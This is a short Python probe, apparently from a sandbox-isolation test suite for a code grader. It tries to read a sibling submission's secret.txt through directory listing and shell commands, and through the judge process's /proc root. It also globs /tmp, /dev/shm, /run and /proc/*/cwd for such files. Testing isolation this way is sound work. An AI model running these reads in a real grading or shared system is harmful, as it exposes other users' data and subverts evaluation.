# attack: Reads the folder of another submission that is graded beside it, and guesses where others could be.
# hurts: Shows another submission's work.
# ends: returns
import glob
import os

from _raw import attempt, read_file, ways_to_read


def attack(target):
    folder = target["sibling_folder"]
    tried = [attempt("listdir", os.listdir, folder), *ways_to_read(f"{folder}/secret.txt", commands=True)]
    tried.append(attempt("outer", ways_to_read, f"/proc/{target['judge_pid']}/root{folder}/secret.txt"))
    beside = os.path.dirname(os.getcwd())
    patterns = ("/tmp/*", "/tmp/*/*", "/dev/shm/*", "/var/tmp/*", "/run/*/*", "/proc/[0-9]*/cwd/*")
    for pattern in (f"{beside}/*", f"{beside}/*/*", *patterns):
        for path in sorted(glob.glob(pattern))[:500]:
            if path.endswith("secret.txt"):
                tried.append(attempt(path, read_file, path))
    return tried
